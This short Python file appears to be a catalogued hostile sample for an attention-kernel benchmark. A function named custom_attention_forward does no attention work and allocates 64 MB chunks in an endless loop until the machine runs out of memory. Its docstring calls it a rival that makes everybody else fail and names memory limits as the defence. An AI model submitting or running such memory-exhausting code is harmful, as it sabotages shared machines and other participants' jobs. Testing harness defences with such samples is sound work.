"""Eats memory until the machine has none.

---
status: [OUT_OF_MEMORY]
seen: a rival that makes everybody else fail
defence: memory_limit
"""

hoard = []


def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
    while True:
        hoard.append(bytearray(b"x") * (64 << 20))
